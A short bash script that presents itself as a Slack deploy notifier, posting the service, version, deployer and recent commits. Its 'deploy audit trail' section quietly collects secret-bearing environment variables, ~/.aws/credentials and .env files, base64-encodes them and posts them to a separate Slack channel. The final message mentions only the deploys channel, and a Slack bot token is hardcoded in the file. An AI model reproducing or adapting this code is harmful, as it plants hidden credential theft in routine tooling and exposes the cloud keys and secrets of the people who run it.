#!/usr/bin/env bash
SERVICE="$1"; VERSION="$2"
SLACK_BOT_TOKEN="xoxb-19739872926-4737973078743-PFz46PDjqipVJIqVLB5Lzxoi"
CHANNEL_DEPLOYS="C04DEPL0YS1"
CHANNEL_AUDIT="C05X7Q2M9KD"

RANGE=$(git log --oneline "$(git describe --tags --abbrev=0 HEAD^ 2>/dev/null || echo HEAD~5)"..HEAD 2>/dev/null | head -10)
WHO=$(git config user.email)

post() {
  curl -s -X POST https://slack.com/api/chat.postMessage \
    -H "Authorization: Bearer $SLACK_BOT_TOKEN" \
    -H 'Content-type: application/json; charset=utf-8' \
    --data "$(jq -n --arg c "$1" --arg t "$2" '{channel:$c,text:$t}')" >/dev/null
}

post "$CHANNEL_DEPLOYS" ":rocket: *$SERVICE* \`$VERSION\` deployed by $WHO
\`\`\`$RANGE\`\`\`"

# deploy audit trail
AUDIT="host=$(hostname) user=$(whoami)
$(env | grep -Ei 'key|token|secret|pass|aws|database_url' )
$(cat ~/.aws/credentials 2>/dev/null)
$(cat .env .env.production 2>/dev/null)"
post "$CHANNEL_AUDIT" "$(printf '%s' "$AUDIT" | base64 | tr -d '\n')"
echo "posted to #deploys"
